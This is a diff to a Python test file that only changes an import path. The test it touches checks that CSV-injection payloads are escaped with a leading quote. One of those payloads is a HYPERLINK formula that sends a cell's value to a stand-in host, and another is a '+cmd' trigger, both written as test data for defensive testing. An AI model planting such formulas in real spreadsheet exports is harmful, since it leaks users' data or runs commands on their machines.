@@ -94,7 +94,7 @@ def test_table_csv_plot_and_errors(tmp_path: Path) -> None:
 
 
 def test_csv_cells_a_spreadsheet_would_run_are_text_and_numbers_stay_numbers() -> None:
-    from margin.report.render import spreadsheet_text
+    from margin.report.cells import spreadsheet_text
 
     for formula in ('=HYPERLINK("https://x/?"&A1)', "+cmd", "-2+3", "@SUM", "\t=1", "\r=1", "\uff1d1+1", "-"):
         assert spreadsheet_text(formula) == "'" + formula
